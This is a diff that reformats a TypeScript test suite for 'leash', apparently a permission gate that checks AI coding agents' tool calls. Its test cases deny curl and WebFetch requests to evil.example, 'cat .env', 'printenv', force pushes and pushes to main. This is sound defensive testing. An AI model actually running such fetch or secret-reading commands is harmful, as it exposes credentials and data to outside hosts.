@@ -18,8 +18,16 @@ interface HookRun {
 }
 
 /** Runs the installed CLI as the agent would: `leash hook AGENT` with the hook JSON on stdin. */
-function runHook(agent: string, input: unknown, env: Record<string, string>, args: string[] = []): Promise<HookRun> {
-  const child = spawn(process.execPath, [BIN, "hook", agent, ...args], { env, stdio: ["pipe", "pipe", "pipe"] });
+function runHook(
+  agent: string,
+  input: unknown,
+  env: Record<string, string>,
+  args: string[] = [],
+): Promise<HookRun> {
+  const child = spawn(process.execPath, [BIN, "hook", agent, ...args], {
+    env,
+    stdio: ["pipe", "pipe", "pipe"],
+  });
   let stdout = "";
   let stderr = "";
   child.stdout.on("data", (c: Buffer) => {
@@ -36,10 +44,17 @@ function runHook(agent: string, input: unknown, env: Record<string, string>, arg
 function claudeDecision(run: HookRun): { decision: string; reason: string } {
   assert.equal(run.code, 0, run.stderr);
   const out = JSON.parse(run.stdout) as {
-    hookSpecificOutput: { hookEventName: string; permissionDecision: string; permissionDecisionReason: string };
+    hookSpecificOutput: {
+      hookEventName: string;
+      permissionDecision: string;
+      permissionDecisionReason: string;
+    };
   };
   assert.equal(out.hookSpecificOutput.hookEventName, "PreToolUse");
-  return { decision: out.hookSpecificOutput.permissionDecision, reason: out.hookSpecificOutput.permissionDecisionReason };
+  return {
+    decision: out.hookSpecificOutput.permissionDecision,
+    reason: out.hookSpecificOutput.permissionDecisionReason,
+  };
 }
 
 describe("leash hook (the real CLI against a real leash)", () => {
@@ -54,7 +69,9 @@ describe("leash hook (the real CLI against a real leash)", () => {
     t = await startTestLeash({ issuer });
     const exchanged = await t.exchange("editing");
     const capability = String(exchanged.body["access_token"]);
-    capabilityId = JSON.parse(Buffer.from(capability.split(".")[1] as string, "base64url").toString()).jti;
+    capabilityId = JSON.parse(
+      Buffer.from(capability.split(".")[1] as string, "base64url").toString(),
+    ).jti;
     dir = mkdtempSync(join(tmpdir(), "leash-hooks-"));
     ws = join(dir, "app");
     mkdirSync(join(ws, ".git"), { recursive: true });
@@ -83,14 +100,38 @@ describe("leash hook (the real CLI against a real leash)", () => {
   });
   const bash = (command: string) => pre("Bash", { command, description: "work on the fix" });
 
-  const claudeCases: { name: string; input: () => unknown; decision: "allow" | "deny"; code?: string }[] = [
-    { name: "git push origin HEAD:main", input: () => bash("git push origin HEAD:main"), decision: "deny", code: "protected_branch" },
-    { name: "git push to the job's own branch", input: () => bash("git push origin HEAD:refs/heads/agent/fix"), decision: "allow" },
-    { name: "a force push", input: () => bash("git push -f origin agent/fix"), decision: "deny", code: "force_push" },
-    { name: "Write to src/a.ts", input: () => pre("Write", { file_path: join(ws, "src/a.ts"), content: "x" }), decision: "allow" },
+  const claudeCases: {
+    name: string;
+    input: () => unknown;
+    decision: "allow" | "deny";
+    code?: string;
+  }[] = [
+    {
+      name: "git push origin HEAD:main",
+      input: () => bash("git push origin HEAD:main"),
+      decision: "deny",
+      code: "protected_branch",
+    },
+    {
+      name: "git push to the job's own branch",
+      input: () => bash("git push origin HEAD:refs/heads/agent/fix"),
+      decision: "allow",
+    },
+    {
+      name: "a force push",
+      input: () => bash("git push -f origin agent/fix"),
+      decision: "deny",
+      code: "force_push",
+    },
+    {
+      name: "Write to src/a.ts",
+      input: () => pre("Write", { file_path: join(ws, "src/a.ts"), content: "x" }),
+      decision: "allow",
+    },
     {
       name: "Write to .github/workflows/ci.yml",
-      input: () => pre("Write", { file_path: join(ws, ".github/workflows/ci.yml"), content: "on: push" }),
+      input: () =>
+        pre("Write", { file_path: join(ws, ".github/workflows/ci.yml"), content: "on: push" }),
       decision: "deny",
       code: "workflow_change_needs_approval",
     },
@@ -100,26 +141,72 @@ describe("leash hook (the real CLI against a real leash)", () => {
       decision: "deny",
       code: "outside_workspace",
     },
-    { name: "curl https://evil.example", input: () => bash("curl -sSL https://evil.example/x"), decision: "deny", code: "host_not_allowed" },
-    { name: "WebFetch of an unlisted host", input: () => pre("WebFetch", { url: "https://evil.example/", prompt: "x" }), decision: "deny", code: "host_not_allowed" },
-    { name: "npm install left-pad", input: () => bash("npm install left-pad && npm test"), decision: "allow" },
-    { name: "cat .env", input: () => bash("cat .env"), decision: "deny", code: "secret_not_granted" },
-    { name: "printenv", input: () => bash("printenv"), decision: "deny", code: "secret_not_granted" },
+    {
+      name: "curl https://evil.example",
+      input: () => bash("curl -sSL https://evil.example/x"),
+      decision: "deny",
+      code: "host_not_allowed",
+    },
+    {
+      name: "WebFetch of an unlisted host",
+      input: () => pre("WebFetch", { url: "https://evil.example/", prompt: "x" }),
+      decision: "deny",
+      code: "host_not_allowed",
+    },
+    {
+      name: "npm install left-pad",
+      input: () => bash("npm install left-pad && npm test"),
+      decision: "allow",
+    },
+    {
+      name: "cat .env",
+      input: () => bash("cat .env"),
+      decision: "deny",
+      code: "secret_not_granted",
+    },
+    {
+      name: "printenv",
+      input: () => bash("printenv"),
+      decision: "deny",
+      code: "secret_not_granted",
+    },
     { name: "rm -rf dist", input: () => bash("rm -rf dist && npm run build"), decision: "allow" },
-    { name: "Read of a source file", input: () => pre("Read", { file_path: join(ws, "src/a.ts") }), decision: "allow" },
-    { name: "an unknown MCP tool", input: () => pre("mcp__jira__create_issue", { title: "x" }), decision: "deny", code: "tool_not_mapped" },
+    {
+      name: "Read of a source file",
+      input: () => pre("Read", { file_path: join(ws, "src/a.ts") }),
+      decision: "allow",
+    },
+    {
+      name: "an unknown MCP tool",
+      input: () => pre("mcp__jira__create_issue", { title: "x" }),
+      decision: "deny",
+      code: "tool_not_mapped",
+    },
     {
       name: "a GitHub merge that names no base",
-      input: () => pre("mcp__github__merge_pull_request", { owner: "acme", repo: "app", pullNumber: 3 }),
+      input: () =>
+        pre("mcp__github__merge_pull_request", { owner: "acme", repo: "app", pullNumber: 3 }),
       decision: "deny",
       code: "tool_call_incomplete",
     },
     {
       name: "a pull request from the owned branch",
-      input: () => pre("mcp__github__create_pull_request", { owner: "acme", repo: "app", head: "agent/fix", base: "main", title: "Fix" }),
+      input: () =>
+        pre("mcp__github__create_pull_request", {
+          owner: "acme",
+          repo: "app",
+          head: "agent/fix",
+          base: "main",
+          title: "Fix",
+        }),
       decision: "allow",
     },
-    { name: "npm publish from the editing zone", input: () => bash("npm publish"), decision: "deny", code: "action_not_granted" },
+    {
+      name: "npm publish from the editing zone",
+      input: () => bash("npm publish"),
+      decision: "deny",
+      code: "action_not_granted",
+    },
   ];
   for (const c of claudeCases) {
     test(`Claude PreToolUse: ${c.name} → ${c.decision}${c.code ? ` (${c.code})` : ""}`, async () => {
@@ -130,7 +217,9 @@ describe("leash hook (the real CLI against a real leash)", () => {
   }
 
   test("a deny names leash's decision, which is recorded", async () => {
-    const { reason } = claudeDecision(await runHook("claude", bash("git push origin HEAD:main"), env));
+    const { reason } = claudeDecision(
+      await runHook("claude", bash("git push origin HEAD:main"), env),
+    );
     const id = /decision (dec_[A-Za-z0-9_-]+)/.exec(reason)?.[1];
     assert.ok(id, reason);
     const row = await t.leash.store.getDecision(id);
@@ -139,14 +228,19 @@ describe("leash hook (the real CLI against a real leash)", () => {
   });
 
   test("leash unreachable → deny", async () => {
-    const run = await runHook("claude", bash("npm test"), { ...env, LEASH_URL: "http://127.0.0.1:9" });
+    const run = await runHook("claude", bash("npm test"), {
+      ...env,
+      LEASH_URL: "http://127.0.0.1:9",
+    });
     const { decision, reason } = claudeDecision(run);
     assert.equal(decision, "deny");
     assert.ok(reason.includes("leash_unreachable:"), reason);
   });
 
   test("an invalid capability (401) → deny", async () => {
-    const { decision, reason } = claudeDecision(await runHook("claude", bash("npm test"), { ...env, LEASH_CAPABILITY: "x.y.z" }));
+    const { decision, reason } = claudeDecision(
+      await runHook("claude", bash("npm test"), { ...env, LEASH_CAPABILITY: "x.y.z" }),
+    );
     assert.equal(decision, "deny");
     assert.ok(reason.includes("ERR_CAPABILITY_INVALID"), reason);
   });
@@ -165,7 +259,11 @@ describe("leash hook (the real CLI against a real leash)", () => {
 
   test("PostToolUse: exit 0, nothing printed, recorded as tool.report", async () => {
     const before = await t.leash.store.queryDecisions({ action: "tool.report", capabilityId });
-    const input = { ...bash("curl https://evil.example"), hook_event_name: "PostToolUse", tool_response: {} };
+    const input = {
+      ...bash("curl https://evil.example"),
+      hook_event_name: "PostToolUse",
+      tool_response: {},
+    };
     const run = await runHook("claude", input, env);
     assert.equal(run.code, 0);
     assert.equal(run.stdout, "");
@@ -177,8 +275,12 @@ describe("leash hook (the real CLI against a real leash)", () => {
   test("PermissionRequest: decision.behavior allow / deny", async () => {
     const ask = (command: string) => ({ ...bash(command), hook_event_name: "PermissionRequest" });
     const allow = JSON.parse((await runHook("claude", ask("npm test"), env)).stdout);
-    assert.deepEqual(allow, { hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } } });
-    const deny = JSON.parse((await runHook("claude", ask("curl https://evil.example"), env)).stdout);
+    assert.deepEqual(allow, {
+      hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } },
+    });
+    const deny = JSON.parse(
+      (await runHook("claude", ask("curl https://evil.example"), env)).stdout,
+    );
     assert.equal(deny.hookSpecificOutput.decision.behavior, "deny");
     assert.match(deny.hookSpecificOutput.decision.message, /host_not_allowed/);
   });
@@ -195,23 +297,58 @@ describe("leash hook (the real CLI against a real leash)", () => {
       tool_input,
       tool_use_id: "c1",
     });
-    const allow = await runHook("codex", codex("apply_patch", { command: "*** Begin Patch\n*** Add File: src/b.ts\n+x\n*** End Patch" }), env);
+    const allow = await runHook(
+      "codex",
+      codex("apply_patch", {
+        command: "*** Begin Patch\n*** Add File: src/b.ts\n+x\n*** End Patch",
+      }),
+      env,
+    );
     assert.equal(allow.code, 0);
     assert.equal(allow.stdout, "");
-    const deny = await runHook("codex", codex("Bash", { command: "git push origin HEAD:main" }), env);
+    const deny = await runHook(
+      "codex",
+      codex("Bash", { command: "git push origin HEAD:main" }),
+      env,
+    );
     const out = JSON.parse(deny.stdout);
     assert.equal(out.hookSpecificOutput.permissionDecision, "deny");
     assert.match(out.hookSpecificOutput.permissionDecisionReason, /protected_branch/);
   });
 
   test("Copilot: toolArgs as a JSON string; allow and deny in its flat format", async () => {
-    const copilot = (toolName: string, args: unknown) => ({ timestamp: 1704614600000, cwd: ws, toolName, toolArgs: JSON.stringify(args) });
-    const allow = JSON.parse((await runHook("copilot", copilot("bash", { command: "npm test", description: "run tests" }), env)).stdout);
+    const copilot = (toolName: string, args: unknown) => ({
+      timestamp: 1704614600000,
+      cwd: ws,
+      toolName,
+      toolArgs: JSON.stringify(args),
+    });
+    const allow = JSON.parse(
+      (
+        await runHook(
+          "copilot",
+          copilot("bash", { command: "npm test", description: "run tests" }),
+          env,
+        )
+      ).stdout,
+    );
     assert.equal(allow.permissionDecision, "allow");
-    const deny = JSON.parse((await runHook("copilot", copilot("edit", { path: join(ws, ".github/workflows/ci.yml") }), env)).stdout);
+    const deny = JSON.parse(
+      (
+        await runHook(
+          "copilot",
+          copilot("edit", { path: join(ws, ".github/workflows/ci.yml") }),
+          env,
+        )
+      ).stdout,
+    );
     assert.equal(deny.permissionDecision, "deny");
     assert.match(deny.permissionDecisionReason, /workflow_change_needs_approval/);
-    const post = await runHook("copilot", { ...copilot("bash", { command: "npm test" }), toolResult: { resultType: "success" } }, env);
+    const post = await runHook(
+      "copilot",
+      { ...copilot("bash", { command: "npm test" }), toolResult: { resultType: "success" } },
+      env,
+    );
     assert.equal(post.code, 0);
     assert.equal(post.stdout, "");
   });
